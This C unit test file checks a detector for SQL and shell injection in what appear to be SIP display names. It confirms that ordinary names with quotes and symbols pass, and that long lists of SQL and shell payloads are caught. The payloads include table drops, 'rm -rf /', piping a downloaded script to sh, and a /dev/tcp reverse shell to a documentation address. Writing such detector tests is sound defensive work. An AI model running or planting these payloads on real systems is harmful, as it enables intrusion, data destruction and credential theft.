/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Names people and phones have, and names that are meant for an interpreter. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <cmocka.h>

#include "guard.h"
#include "sip/inject.h"

static const char *const names[] = {
	"O'Brien", "Sean O'Brien", "D'Angelo--Smith", "Sales & Support", "R&D (Berlin); 2nd floor",
	"#31#0123", "*67", "*21*+4930123456#", "drop-in center", "Union Street", "select",
	"M\xc3\xbcller, \xc3\x96.", "a|b", "Select Wines from Bordeaux", "Credit Union Select",
	"Credit Union Select Branch", "Student Union & Select Committee", "Cote d'Or Hotel",
	"Hotel Cote d'Or", "Rock 'n' Roll", "Rock 'n' Roll or Jazz", "Class of '99 or 2000",
	"'#1 Support'", "Bob's #1 fan", "\\\"John\\\" or \\\"Jane\\\"", "'R' and 'B' <dept>",
	"John \\\"Johnny\\\" Smith", "'Bob' -- Sales", "Wash & Curl", "Hair; Curl & Cut",
	"Hair & Curl Studio", "Perl|Python", "C & Python Team", "Ruby & Sons", "Kiel | SH",
	"Badge | ID", "Bash Street", "Sleep Clinic", "Sleep (Clinic)", "sleep(er) cell",
	"Cash$", "$ales", "A$AP", "Bargain$(USD)", "100% Wool", "50%25 off", "`Okina Kai`",
	"L`Oreal", "Hawai`i Office", "Let's update the set", "Updates; set top boxes",
	"Insert Coin; Delete Key", "Drop Table Tennis", "Where's Wally?", "Having Fun 24/7",
	"AND/OR Logic Ltd", "Either/Or", "1 or 2", "7 and 8 floor", "Tom, Dick and Harry",
	"T1=ISDN", "x=1;y=2", "user;par=u%40example.net", "+49(30)123-45.67", "1001;ext=22",
	"0049%2030%20123", "%23%2311", "alice@example.com", "anonymous", "Exec. Office",
	"exec (2nd floor)", "Grant All", "'Quoted Name'", "\"Quoted Name\"", "K'naan",
	"N'Djamena Office", "Ng'ang'a", "Conf. Room #4; Building 7/8", "Ping & Pong",
	"Ping An Insurance; Kill Bill", "cat & dog", "cats; dogs; id cards",
	"Network; cat 5 cabling", "badge; id 42", "Find & Go 24",
	"Front Desk (24/7)", "<unknown>", "-- none --", "---", "';-)", ":'-(", "(\"_\")", "=)", "'",
	"''", "\"", "`", ";", "&", "|", "%", "%2", "%00", "Tee & Co.", "Echo & Bunnymen",
	"\xd0\x98\xd0\xb2\xd0\xb0\xd0\xbd 'or'", "Or 'El' & Al", "caf\xe9 'or bust'", "A/*B",
	"Dr. O'Neil/Dr. D'Arcy; Room 7", "Order by Phone", "'Order by Phone'", "Limit 5 & Co",
};

static const char *const sql[] = {
	"' or 1=1", "' or 1=1--", "' OR '1'='1", "'or'1'='1", "admin'--", "admin' --", "admin'#",
	"admin'/*", "admin' or '1'='1'/*", "x' or 'x'='x", "') or ('1'='1", "')) or (('x'))=(('x",
	"\" or \"\"=\"", "\" or 1=1#", "' or 1", "' || 1=1", "' && 1=1--", "' or true--",
	"1 or 1=1", "100 and 1=2", "1) or (1=1", "-1 union select 1,2,3", "union select 1,2,3",
	"' union all select null,null--", "'/**/union/**/select/**/password/**/from/**/users",
	"'/*!50000union*/ select user()", "UnIoN/*x*/SeLeCt password", "'; drop table users--",
	"x'; DROP TABLE subscriber; --", "1; drop table users", "1;delete from cdr",
	"'; insert into users values(1)", "'; update users set pw=1", "'; exec xp_cmdshell('dir')",
	"'; shutdown--", "'; waitfor delay '0:0:5'--", "' and sleep(5)--", "1' and benchmark(9,1)#",
	"'||pg_sleep(5)--", "' having 1=1--", "' order by 5--", "' limit 1,1#",
	"' into outfile '/tmp/x", "'='", "'=0--", "'||(select password from users)||'",
	"1 and (select count(*) from users)>0", "%27%20or%201%3D1", "%27or%271%27%3D%271",
	"admin%27--", "%2527%20or%201=1", "%25%32%37 or 1=1", "'+or+1=1", "'\tor\t1=1",
	"'%0aor%0a1=1", "\\' or 1=1", "\\\" or 1=1 or \\\"", "' or 2>1--", "' or username like '%",
	"' and extractvalue(1,concat(0x7e,version()))", "' or exists(select 1)", "';--",
	"a' and 1=(select 1)", "' or ascii(substring(user(),1,1))>'6", "'information_schema.tables",
	"1' xor 1=1", "'\0or 1=1",
};

static const char *const shell[] = {
	"$(id)", "$(/bin/id)", "a$(wget http://192.0.2.1/x)", "`id`", "`/usr/bin/id`",
	"`wget 192.0.2.1/x`", "`reboot`", "; wget http://192.0.2.1/x", ";wget 192.0.2.1/a",
	"x;curl http://192.0.2.1/a|sh", "| sh", "|bash", "x | nc 192.0.2.1 99", "&& curl -s x.io",
	"&& wget x.io/a", "|| ping -c 9 192.0.2.1", "& ping 192.0.2.1", ";id", "; id;", "|id #",
	";reboot", "; /sbin/reboot", "; rm -rf /", ";rm -rf *", "&& rm -f x", "x;cat /etc/passwd",
	"|cat</etc/hosts", ";cat$IFS/etc/hosts", ";cat${IFS}x", "${IFS}", "a${jndi:ldap://x/a}",
	"() { :;}; echo x", "; bash -i >& /dev/tcp/192.0.2.1/9", "/bin/sh", ";sh -c x",
	"; /bin/busybox wget x", "%3bwget%20http://x", "%60id%60", "%24%28id%29", "%0aid",
	"%0a/bin/ls", "%253bid", "%2560id%2560", "x%7cid", ";tftp -g 192.0.2.1", "; nc -e x",
	"; chmod 777 /tmp/x", ";python -c x", "& nohup ./x", "|tee /tmp/x", ";sleep 9",
	"; nslookup x.example.org", "`sleep 9`", "|uname -a", "$(curl x)", "$((1+1))",
	"x;ls -la", "x;whoami", "x|whoami", "; telnet 192.0.2.1", ";echo 1>/tmp/x",
	"; killall asterisk.x",
};

static unsigned find(const char *text, size_t n)
{
	struct guard g = guard_new((struct slice){ text, (uint32_t)n });
	int work = INJECT_WORK;
	unsigned found = inject_find(g.bytes, &work);

	guard_free(&g);
	return found;
}

#define COUNT(list) (sizeof(list) / sizeof(list[0]))

static void people_have_odd_names(void **unused)
{
	unsigned wrong = 0;

	(void)unused;
	assert_true(COUNT(names) >= 60);
	for (size_t i = 0; i < COUNT(names); i++) {
		unsigned found = find(names[i], strlen(names[i]));

		if (found)
			print_error("%u: %s\n", found, names[i]);
		wrong += found != 0;
	}
	assert_int_equal(wrong, 0);
}

/* Nobody's name holds a hundred quotes; all names of a message share the work. */
static void work_is_bounded(void **unused)
{
	char quotes[100];
	struct slice some = SLICE("Fish & Chips, O'Brien's");
	int work = INJECT_WORK;
	unsigned n = 0;

	(void)unused;
	memset(quotes, '\'', sizeof(quotes));
	assert_int_equal(find(quotes, 40), 0);
	assert_int_equal(find(quotes, sizeof(quotes)), INJECT_SQL | INJECT_SHELL);
	while (!inject_find(some, &work))
		n++;
	assert_in_range(n, 10, 40);
}

static unsigned missed(const char *const *list, size_t n, unsigned kind)
{
	unsigned wrong = 0;

	for (size_t i = 0; i < n; i++) {
		size_t len = strlen(list[i]) == 1 ? 8 : strlen(list[i]); /* "'\0or 1=1" */

		if (find(list[i], len) & kind)
			continue;
		print_error("missed: %s\n", list[i]);
		wrong++;
	}
	return wrong;
}

static void attacks_are_found(void **unused)
{
	(void)unused;
	assert_true(COUNT(sql) >= 60 && COUNT(shell) >= 60);
	assert_int_equal(missed(sql, COUNT(sql), INJECT_SQL) +
			 missed(shell, COUNT(shell), INJECT_SHELL), 0);
}

/* Wherever an attack stands in a long name, and whatever stands around it. */
static void nowhere_to_hide(void **unused)
{
	static char text[3000];

	(void)unused;
	for (unsigned at = 0; at < 1000; at++) {
		int n = snprintf(text, sizeof(text), "%*s' or%*s1=1%*s", (int)at, "",
				 (int)at + 1, "", 20, "");

		for (int i = 0; i < (int)at; i++)
			text[i] = 'a';
		assert_int_equal(find(text, (size_t)n), INJECT_SQL);
		n = snprintf(text, sizeof(text), "%*s;wget x.io", (int)at, "");
		for (int i = 0; i < (int)at; i++)
			text[i] = 'a';
		assert_int_equal(find(text, (size_t)n), INJECT_SHELL);
	}
}

/* However a text ends, no byte is read behind its end. */
static void cut_anywhere(void **unused)
{
	(void)unused;
	for (size_t i = 0; i < COUNT(names); i++)
		for (size_t n = 0; n < strlen(names[i]); n++)
			(void)find(names[i], n);
	for (size_t i = 0; i < COUNT(sql); i++)
		for (size_t n = 0; n < strlen(sql[i]); n++)
			(void)find(sql[i], n);
	for (size_t i = 0; i < COUNT(shell); i++)
		for (size_t n = 0; n < strlen(shell[i]); n++)
			(void)find(shell[i], n);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(people_have_odd_names),
		cmocka_unit_test(work_is_bounded),
		cmocka_unit_test(attacks_are_found),
		cmocka_unit_test(nowhere_to_hide),
		cmocka_unit_test(cut_anywhere),
	};

	return cmocka_run_group_tests_name("inject", tests, NULL, NULL);
}
